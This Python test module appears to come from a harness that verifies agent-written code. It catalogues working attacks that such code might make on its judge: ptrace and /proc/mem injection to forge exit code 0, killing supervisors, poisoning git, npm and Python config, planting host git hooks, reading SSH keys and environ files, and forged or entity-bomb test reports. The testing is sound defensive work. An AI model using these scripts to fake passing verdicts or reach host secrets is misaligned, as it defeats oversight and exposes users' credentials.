"""Code under test that attacks what judges it: exit codes, reports, later goals, services, and the git of the host."""

# ruff: noqa: E501  (a script of an attack stays on its line)

import shutil
import socket
import sys
from typing import Any

from tests.attacks.catalogue import SANDBOXES, WORKTREE, Attack, Evidence, Scene, Surface
from tests.attacks.field import Field, Listener, reports
from tests.attacks.inside import CONNECT, own_address

CHECK = """\
import subprocess, sys
subprocess.run([sys.executable, "product.py", *sys.argv[1:]])
sys.exit(1)
"""
"""A goal of the base that runs what the agent wrote, and is always red."""
PRODUCT = "import runpy, sys\nsys.argv = ['attack/probes.py', *sys.argv[1:]]\nrunpy.run_path('attack/probes.py', run_name='__main__')\n"
EXIT_0 = "bytes.fromhex('b8e700000031ff0f05')"
"""exit_group(0), as machine code."""


def forge(name: str, attack: str, script: str) -> Attack:
    return Attack(name, attack, Surface.EXIT, "a goal that always fails has passed", script)


FORGE = (
    forge(
        "forge-pidfd",
        "writes the exit code 0 into the handle by which process 1 of the sandbox tells it",
        "pid = os.pidfd_open(1)\n"
        "for number in range(3, 64):\n"
        "  done, code = syscall(438, pid, number, 0)\n"
        "  if done >= 0:\n"
        "    for text in (struct.pack('Q', 1), b'{\"exit-code\": 0}\\n', b'0\\n'):\n"
        "      try: os.write(done, text)\n"
        "      except OSError as error: print(error, file=sys.stderr)\n"
        "time.sleep(0.3)",
    ),
    forge(
        "forge-proc-fd",
        "writes words of success into the file handles of process 1 by /proc/1/fd, with the words that its command line shows",
        "marks = re.findall(r'genba-[a-z]+-[0-9a-f]+', open('/proc/1/cmdline').read())[:1]\n"
        "lines = [f'{mark} {word}\\n'.encode() for mark in marks for word in ('counted', 'exit 0', '0')]\n"
        "for name in os.listdir('/proc/1/fd'):\n"
        "  for text in (struct.pack('Q', 1), b'{\"exit-code\": 0}\\n', *lines):\n"
        "    try: os.write(os.open('/proc/1/fd/' + name, os.O_WRONLY | os.O_NONBLOCK), text)\n"
        "    except OSError as error: print(error, file=sys.stderr)",
    ),
    forge(
        "forge-memory-1",
        "writes exit(0) into the memory of process 1 of the sandbox",
        f"where = int(open('/proc/1/syscall').read().split()[-1], 16)\n"
        f"memory = open('/proc/1/mem', 'r+b', 0); memory.seek(where); memory.write({EXIT_0})\n"
        "os.kill(1, 17); time.sleep(0.3)",
    ),
    forge(
        "forge-memory-2",
        "writes exit(0) into the memory of the shell that runs the goal",
        f"for pid in range(2, os.getpid()):\n"
        "  try:\n"
        "    where = int(open(f'/proc/{pid}/syscall').read().split()[-1], 16)\n"
        f"    memory = open(f'/proc/{{pid}}/mem', 'r+b', 0); memory.seek(where); memory.write({EXIT_0})\n"
        "  except (OSError, ValueError) as error: print(pid, error, file=sys.stderr)\n",
    ),
    forge(
        "forge-ptrace",
        "makes process 1 of the sandbox end with 0 by ptrace",
        "class Regs(ctypes.Structure): _fields_ = [(n, ctypes.c_ulonglong) for n in 'r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs'.split()]\n"
        "for pid in (1, 2, os.getppid(), os.getppid() - 1):\n"
        "  if syscall(101, 16, pid, 0, 0)[0] == 0:\n"
        "    os.waitpid(pid, 0x40000000)\n"
        "    regs = Regs(); syscall(101, 12, pid, 0, ctypes.byref(regs))\n"
        "    word = ctypes.c_long.from_buffer_copy(bytes.fromhex('b8e700000031ff0f')).value\n"
        "    syscall(101, 4, pid, ctypes.c_long(regs.rip), ctypes.c_long(word))\n"
        "    syscall(101, 4, pid, ctypes.c_long(regs.rip + 8), ctypes.c_long(5))\n"
        "    regs.orig_rax = 2**64 - 1; syscall(101, 13, pid, 0, ctypes.byref(regs)); syscall(101, 17, pid, 0, 0)\n"
        "    time.sleep(0.1)\n",
    ),
    forge(
        "forge-inherited",
        "writes words of success into every handle that it inherited",
        "for name in os.listdir('/proc/self/fd'):\n"
        "  for text in (struct.pack('Q', 1), b'{\"exit-code\": 0}\\n', b'exit 0\\n'):\n"
        "    try: os.write(int(name), text)\n"
        "    except OSError: pass",
    ),
    forge(
        "forge-kill",
        "kills all that it can: shells, supervisors, process 1",
        "import signal\n"
        "for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGCHLD, signal.SIGINT, signal.SIGKILL):\n"
        "  for pid in sorted({1, 2, 3, os.getppid(), *range(1, os.getppid())}):\n"
        "    try: os.kill(pid, number)\n"
        "    except OSError: pass\n"
        "  time.sleep(0.02)",
    ),
)


def poison(name: str, attack: str, script: str) -> Attack:
    return Attack(name, attack, Surface.GOALS, "a later goal sees it, and passes by it", script)


POISON = (
    poison(
        "poison-gitconfig",
        "writes ~/.gitconfig for later goals",
        "sh('git config --global poison.x 1; mkdir -p ~/.config/git; git config -f ~/.config/git/config poison.x 1')",
    ),
    poison(
        "poison-npmrc",
        "writes ~/.npmrc, ~/.config and ~/.cargo for later goals",
        "for name in ('.npmrc', '.config/pip/pip.conf', '.cargo/config.toml', '.yarnrc', '.bashrc'):\n"
        "  file = pathlib.Path.home() / name; file.parent.mkdir(parents=True, exist_ok=True); file.write_text('poison=1\\n')",
    ),
    poison(
        "poison-user-site",
        "plants a .pth in Python's folder of the user, which ends every Python with 0",
        "import site\n"
        "place = pathlib.Path(site.getusersitepackages()); place.mkdir(parents=True, exist_ok=True)\n"
        "(place / 'poison.pth').write_text('import os, sys; any(\"victim\" in w for w in open(\"/proc/self/cmdline\").read().split(chr(0))) and os._exit(0)\\n')",
    ),
    poison(
        "poison-temporary",
        "leaves files in TMPDIR, /tmp, /var/tmp and /dev/shm for later goals",
        "for place in (os.environ.get('TMPDIR', '/tmp'), '/tmp', '/var/tmp', '/dev/shm', '/run'):\n"
        "  try: open(place + '/poison', 'w').write('1')\n"
        "  except OSError as error: print(error, file=sys.stderr)",
    ),
    poison(
        "poison-path",
        "plants a program in a folder of PATH",
        "for place in os.environ['PATH'].split(':'):\n"
        "  try:\n"
        "    os.makedirs(place, exist_ok=True); open(place + '/poisoned-tool', 'w').write('#!/bin/sh\\nexit 0\\n'); os.chmod(place + '/poisoned-tool', 0o755)\n"
        "  except OSError as error: print(error, file=sys.stderr)",
    ),
    poison(
        "poison-daemon",
        "leaves a process behind that changes the next goal while it runs",
        "if os.fork() == 0:\n"
        "  os.setsid()\n"
        "  if os.fork() == 0:\n"
        "    for handle in range(3): os.close(handle)\n"
        "    for _ in range(300):\n"
        "      try: open('late.txt', 'w').write('poison')\n"
        "      except OSError: pass\n"
        "      time.sleep(0.01)\n"
        "  os._exit(0)",
    ),
    poison(
        "poison-pyc",
        "leaves compiled Python in a folder that git ignores, in the place of a module of the base",
        "import importlib.util, marshal, _imp\n"
        "place = pathlib.Path('__pycache__'); place.mkdir(exist_ok=True)\n"
        "text = importlib.util.MAGIC_NUMBER + struct.pack('<I', 1) + bytes(8) + marshal.dumps(compile('VERDICT = 0', 'rules.py', 'exec'))\n"
        "for tag in ('cpython-311', sys.implementation.cache_tag): (place / f'rules.{tag}.pyc').write_bytes(text)",
    ),
    poison(
        "poison-index",
        "hides a changed file of the base from git with assume-unchanged and skip-worktree",
        "sh('git update-index --assume-unchanged hidden.txt; git update-index --skip-worktree hidden.txt')\n"
        "open('hidden.txt', 'w').write('poison')",
    ),
    poison(
        "poison-checkout-git",
        "plants a monitor and an alias in the git folder of the checkout for later goals",
        'sh(\'git config core.fsmonitor "touch /tmp/poison-git; false"; git config alias.poison "!true"\')',
    ),
    poison(
        "poison-mode",
        "makes a folder of the base a link to one of its own",
        "os.rename('folder', '/tmp/folder') if False else None\n"
        "sh('mkdir -p ignored/own; echo poison > ignored/own/file.txt; rm -rf folder; ln -s ignored/own folder')",
    ),
)
VICTIMS = {
    "poison-gitconfig": "git config --get poison.x",
    "poison-npmrc": "cat ~/.npmrc ~/.config/pip/pip.conf ~/.cargo/config.toml ~/.yarnrc ~/.bashrc | grep poison",
    "poison-user-site": "python3 victim.py victim",
    "poison-temporary": "cat $TMPDIR/poison /tmp/poison /var/tmp/poison /dev/shm/poison /run/poison | grep 1",
    "poison-path": "poisoned-tool",
    "poison-daemon": "sleep 0.3; grep poison late.txt",
    "poison-pyc": "python3 judge.py",
    "poison-index": "grep poison hidden.txt",
    "poison-checkout-git": "git poison",
    "poison-mode": "grep poison folder/file.txt",
}
"""Goals of the base that pass only when an earlier goal had an influence on them."""
HOST_GIT = Attack(
    "goal-plants-git", "plants filters, monitors and hooks in the git folder of the checkout, for the git of the host",
    Surface.GIT, "a file that only the host could make",
    "evil = f'touch {P[\"canaries\"]}/goal-plants-git; false'\n"
    "sh(f'''for n in core.fsmonitor diff.external filter.g.clean filter.g.smudge filter.g.process; do git config $n \"{evil}\"; done\n"
    "git config core.hooksPath $PWD/.hooks; mkdir -p .hooks .git/info; echo \"* filter=g diff=g\" > .git/info/attributes\n"
    "for h in post-checkout post-index-change reference-transaction; do printf \"#!/bin/sh\\n{evil}\\n\" > .hooks/$h; chmod +x .hooks/$h; done\n"
    "echo changed > hidden.txt''')",
)  # fmt: skip
GOAL_NETWORK = (
    Attack(
        "goal-loopback",
        "reaches the loopback of the host from a goal, directly and by the proxy",
        Surface.NETWORK,
        "a server of the host counts a connection",
        CONNECT
        + "for host in ('127.0.0.1', 'localhost', '[::ffff:127.0.0.1]', '2130706433', P['own'], P['hostname'], '0.0.0.0'): tried(f'{host}:{P[\"port\"]}')\n"
        "for host in ('127.0.0.1', P['own']):\n"
        "  try: socket.create_connection((host, P['port']), 2)\n"
        "  except OSError as error: print(error, file=sys.stderr)",
    ),
    Attack(
        "goal-reads",
        "reads secrets of the user from a goal",
        Surface.READING,
        "the goal prints the secret",
        "read(P['home'] + '/.ssh/id_ed25519', P['root'] + '/.env', P['root'] + '/.git/config', '/proc/*/environ')\n"
        "has(sh('git cat-file --batch-all-objects --batch --buffer', 15), 'objects')",
    ),
)


def furnish(field: Field, **parameters: Any) -> None:
    for name, text in {
        "check.py": CHECK, "product.py": "print('nothing')\n", "victim.py": "import sys\nsys.exit(1)\n",
        "rules.py": "VERDICT = 1\n", "judge.py": "import sys\nimport rules\nsys.exit(rules.VERDICT)\n",
        "hidden.txt": "base\n", "late.txt": "base\n", "folder/file.txt": "base\n", ".gitignore": "__pycache__/\nignored/\n",
    }.items():  # fmt: skip
        field.write(name, text)
    (field.home / ".ssh").mkdir(exist_ok=True)
    (field.home / ".ssh" / "id_ed25519").write_text(parameters["canary"])
    field.environment["GENBA_ATTACK_SECRET"] = parameters["canary"]


def results(verification: Any) -> dict[str, tuple[str, str]]:
    """By the command of a goal: its status, and what it printed."""
    return {
        each["goal"]["goal"].get("script", each["goal"]["goal"].get("command", "")): (
            each["result"]["status"],
            each["result"]["output"],
        )
        for each in verification.get("results", [])
    }


def play(field: Field, scene: Scene) -> Evidence:
    furnish(field, canary=field.secret("goal"))
    field.write("private.txt", field.secret("goal"))
    field.git("add", "private.txt")
    field.git("reset", "-q", "private.txt")
    (field.root / "private.txt").unlink()
    server = Listener(address=("0.0.0.0", 0))
    forged = [each.id for each in FORGE]
    first = [each.id for each in (*GOAL_NETWORK, *POISON, HOST_GIT)]
    scripts = [
        f"python3 check.py {' '.join(first)}",
        *VICTIMS.values(),
        *(f"python3 check.py {name}" for name in forged),
    ]
    field.settle(dod=[{"type": "custom_script", "script": line, "timeout_seconds": 40} for line in scripts])
    field.commit("Goals")
    field.branch("work", {"product.py": PRODUCT})
    field.git("checkout", "-q", "work")
    field.probe(
        scene.scripts(), canary=field.secret("goal"), port=server.port, own=own_address(), hostname=socket.gethostname()
    )
    field.commit("Attacks")
    field.git("checkout", "-q", "main")
    seen = results(field.verify("work", seconds=180))
    server.close()
    assert len(seen) >= len(scripts), field.told()
    result = reports(seen[scripts[0]][1].splitlines())
    evidence = dict.fromkeys(first, "")
    evidence["goal-reads"] = result.get("goal-reads", {}).get("evidence", "")
    evidence["goal-loopback"] = "a server of the host was reached" if server.connections else ""
    evidence["goal-plants-git"] = field.sprung("goal-plants-git")
    evidence |= {name: "the victim passes" if seen[line][0] == "passed" else "" for name, line in VICTIMS.items()}
    return evidence | {name: "passed" if seen[f"python3 check.py {name}"][0] == "passed" else "" for name in forged}


SETUP = (
    poison(
        "setup-user-site",
        "plants a .pth in Python's folder of the user, by a setup that runs its code",
        POISON[2].script,
    ),
    poison(
        "setup-gitconfig",
        "writes settings of git and npm in HOME, by a setup that runs its code",
        POISON[0].script + "\n" + POISON[1].script,
    ),
    poison("setup-daemon", "leaves a process behind by a setup that runs its code", POISON[5].script),
)


def play_setup(field: Field, scene: Scene) -> Evidence:
    furnish(field, canary=field.secret("goal"))
    names = {"setup-user-site": "poison-user-site", "setup-gitconfig": "poison-npmrc", "setup-daemon": "poison-daemon"}
    lines = {name: VICTIMS[victim] for name, victim in names.items()}
    field.write("prepare.py", "import subprocess, sys\nsubprocess.run([sys.executable, 'product.py'])\n")
    field.settle(
        dod=[{"type": "custom_script", "script": line, "timeout_seconds": 20} for line in lines.values()],
        verification={"setup": "python3 prepare.py"},
    )
    field.commit("Goals")
    field.branch("work", {"product.py": PRODUCT})
    field.git("checkout", "-q", "work")
    field.probe(scene.scripts())
    field.commit("Attacks")
    field.git("checkout", "-q", "main")
    seen = results(field.verify("work", seconds=120))
    assert len(seen) >= len(lines), field.told()
    return {name: "the victim passes" if seen[line][0] == "passed" else "" for name, line in lines.items()}


GREEN = '<testsuites><testsuite name="pytest" errors="0" failures="0" skipped="0" tests="1"><testcase classname="tests.test_product" name="test_value" time="0.1"/></testsuite></testsuites>'
AT_EXIT = """\
import atexit, glob, os, pathlib, re, socket, sys
words = [w.partition('=')[2] or w for w in open('/proc/self/cmdline').read().split(chr(0)) + list(os.environ.values())]
found = [pathlib.Path(w) for w in words if w.endswith('.xml')] + [pathlib.Path(p) for p in glob.glob('**/report.xml', recursive=True, include_hidden=True)]
found = [p for p in found if p.parent.is_dir()]
GREEN = 'REPORT'
def value(): return 0
def replace():
    for report in found or [pathlib.Path('report.xml')]:
        try:
            act(report)
            print('TRIED')
        except OSError as error:
            print('TRIED', error)
    sys.stdout.flush()
    os._exit(0)
atexit.register(replace)
def act(report):
""".replace("REPORT", GREEN)


def report(name: str, attack: str, act: str) -> Attack:
    text = "\n".join("    " + line for line in act.splitlines())
    return Attack(
        f"report-{name}",
        attack,
        Surface.REPORTS,
        "the verdict is done, or verify does not end in time, or the host does what the file says",
        AT_EXIT + text + "\n",
    )


REPORTS = (
    report(
        "pipe",
        "puts a pipe in the place of the report of the tests",
        "report.unlink(missing_ok=True)\nos.mkfifo(report)",
    ),
    report(
        "socket",
        "puts a socket in the place of the report",
        "report.unlink(missing_ok=True)\nos.chdir(report.parent)\nsocket.socket(socket.AF_UNIX).bind(report.name)",
    ),
    report("folder", "puts a folder in the place of the report", "report.unlink(missing_ok=True)\nreport.mkdir()"),
    report(
        "link-forged",
        "puts a link to a green report that it wrote in the place of the report",
        "pathlib.Path('/tmp/green.xml').write_text(GREEN)\npathlib.Path('green.xml').write_text(GREEN)\nreport.unlink(missing_ok=True)\nreport.symlink_to(os.path.abspath('green.xml'))",
    ),
    report(
        "link-device",
        "puts a link to an endless device in the place of the report",
        "report.unlink(missing_ok=True)\nreport.symlink_to('/dev/zero')",
    ),
    report(
        "sparse",
        "makes the report a file of 300 GB that takes no room",
        "os.truncate(report, 300 * 2**30) if report.exists() else report.write_text('')\nos.truncate(report, 300 * 2**30)",
    ),
    report(
        "huge",
        "writes a report of 400 MB",
        'with report.open(\'w\') as file:\n  file.write(\'<testsuites><testsuite name="p" errors="0" failures="1" skipped="0" tests="1"><testcase name="test_value">\')\n  for _ in range(400): file.write(\'<!-- -->\' * 131072)\n  file.write(\'</testcase></testsuite></testsuites>\')',
    ),
    report(
        "entities",
        "writes a report whose entities grow without end",
        'lines = \'\'.join(f\'<!ENTITY a{n} "\' + f\'&a{n - 1};\' * 10 + \'">\' for n in range(1, 12))\nreport.write_text(f\'<!DOCTYPE t [<!ENTITY a0 "xxxxxxxxxx">{lines}]><testsuites><testsuite name="p" tests="1" failures="1" errors="0"><testcase name="test_value">&a11;</testcase></testsuite></testsuites>\')',
    ),
    report(
        "deep",
        "writes a report with a million elements in each other",
        "report.write_text('<a>' * 1000000 + '</a>' * 1000000)",
    ),
    report(
        "folder-link",
        "puts a link to a folder of the user in the place of the folder of the report",
        "import shutil\nplace = report.parent\nos.rename(place, str(place) + '.old')\nos.symlink('CANARIES', place)",
    ),
)


def play_reports(field: Field, scene: Scene) -> Evidence:
    field.write("tests/test_product.py", "import product\n\n\ndef test_value():\n    assert product.value() == 1\n")
    field.write("product.py", "def value():\n    return 0\n")
    goal: dict[str, Any] = {
        "type": "tests_pass",
        "command": f"{sys.executable} -m pytest -q -p no:cacheprovider",
        "timeout_seconds": 15,
    }
    field.settle(dod=[goal], verification={"network": "none"})
    field.commit("Tests")
    kept = field.canaries / "report.xml"
    seen = {}
    for each in scene.attacks:
        kept.write_text(GREEN)
        shutil.rmtree(field.root / ".git" / "genba" / "goals", ignore_errors=True)
        field.branch(each.id, {"product.py": each.script.replace("CANARIES", str(field.canaries))})
        verdict = field.verify(each.id, seconds=40)
        done = field.ended[-1]
        tests = results(verdict).get(goal["command"], ("", ""))[0]
        seen[each.id] = "the tests that fail have passed" if tests == "passed" else ""
        if done.hung or done.peak_mb > 1200:
            seen[each.id] = f"verify took {done.seconds:.0f} s and {done.peak_mb} MB"
        elif "TRIED" not in done.out + field.goal_logs():
            seen[each.id] = f"nothing was tried: {field.told()}"
        if not kept.exists() or '"unexpected"' in done.out:
            seen[each.id] = f"the host did it: {done.err[-200:]}"
    return seen


SERVE = """\
import http.server, json, os, pathlib, socket, sys, threading, urllib.request
P = json.loads(pathlib.Path('attack/scripts.json').read_text())['parameters']
def reached(host, port, text):
    try:
        with socket.create_connection((host, port), 2) as one:
            one.sendall(text + b' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); return one.recv(1000)
    except OSError as error: return str(error).encode()
for host in ('127.0.0.1', P['own']): reached(host, P['port'], b'GET /service-loopback')
one = socket.socket(socket.AF_UNIX)
try: one.connect('\\0' + P['unix']); one.sendall(b'service-abstract')
except OSError: pass
body = reached('127.0.0.1', P['answer'], b'GET /service-answers').partition(b'\\r\\n\\r\\n')[2]
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        text = body or b'nothing'
        self.send_response(200 if b'reached' in text else 500); self.send_header('Content-Length', str(len(text))); self.end_headers(); self.wfile.write(text)
http.server.HTTPServer(('127.0.0.1', int(sys.argv[1])), Handler).serve_forever()
"""
SERVICE = (
    Attack(
        "service-loopback",
        "reaches a server on the loopback of the host from a service under test",
        Surface.DEFINE,
        "the server counts a connection",
    ),
    Attack(
        "service-abstract",
        "reaches an abstract socket of the host from a service under test",
        Surface.DEFINE,
        "the socket counts a connection",
    ),
    Attack(
        "service-forwards",
        "answers for its service with the answer of another server of the host",
        Surface.DEFINE,
        "the goal that asks the service passes",
    ),
    Attack(
        "service-squatted",
        "lets a process that an earlier service left answer in the place of its service",
        Surface.DEFINE,
        "the goal that asks the service passes",
    ),
)
SQUAT = """\
import http.server, os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200); self.send_header('Content-Length', '2'); self.end_headers(); self.wfile.write(b'ok')
        for _ in range(400):
            try: http.server.ThreadingHTTPServer(('127.0.0.1', 48731), Handler).serve_forever()
            except OSError: time.sleep(0.01)
    os._exit(0)
time.sleep(60)
"""


def play_services(field: Field, _scene: Scene) -> Evidence:
    unix = f"/tmp/genba-service-{field.word}"
    server, answers, abstract = Listener(address=("0.0.0.0", 0)), Listener(), Listener(socket.AF_UNIX, "\0" + unix)
    field.write("serve.py", "import sys\nimport runpy\nrunpy.run_path('product.py')\n")
    field.write("squat.py", "import runpy\nrunpy.run_path('other.py')\n")
    for name in ("product.py", "other.py"):
        field.write(name, "print('nothing')\n")
    asked = {
        "type": "response_contains",
        "url": "/",
        "text": "reached",
        "serve": "python3 serve.py {port}",
        "ready_seconds": 6,
        "timeout_seconds": 8,
    }
    squat = {
        "type": "endpoint_responds",
        "url": "/none",
        "serve": "python3 squat.py",
        "ready_seconds": 2,
        "timeout_seconds": 5,
    }
    late = {
        "type": "endpoint_responds",
        "url": "http://127.0.0.1:48731/",
        "serve": "sleep 30",
        "ready_seconds": 2,
        "timeout_seconds": 5,
    }
    field.settle(dod=[asked, squat, late], verification={"network": "none"})
    field.commit("Goals")
    field.branch("work", {"product.py": SERVE, "other.py": SQUAT})
    field.git("checkout", "-q", "work")
    field.probe({}, port=server.port, answer=answers.port, unix=unix, own=own_address())
    field.commit("Attacks")
    field.git("checkout", "-q", "main")
    verdict = field.verify("work", seconds=120)
    result = [each["result"]["status"] for each in verdict["results"]][:3]
    for each in (server, answers, abstract):
        each.close()
    return {
        "service-loopback": "a server of the host was reached" if server.connections else "",
        "service-abstract": "a socket of the host was reached" if abstract.connections else "",
        "service-forwards": "the goal passes" if result[0] == "passed" else "",
        "service-squatted": "the goal passes" if result[2] == "passed" else "",
    }


SCENES = (
    Scene("goals", (*FORGE, *POISON, HOST_GIT, *GOAL_NETWORK), play),
    Scene("setup", SETUP, play_setup),
    Scene("reports", REPORTS, play_reports, (*SANDBOXES, WORKTREE)),
    Scene("services", SERVICE, play_services),
)
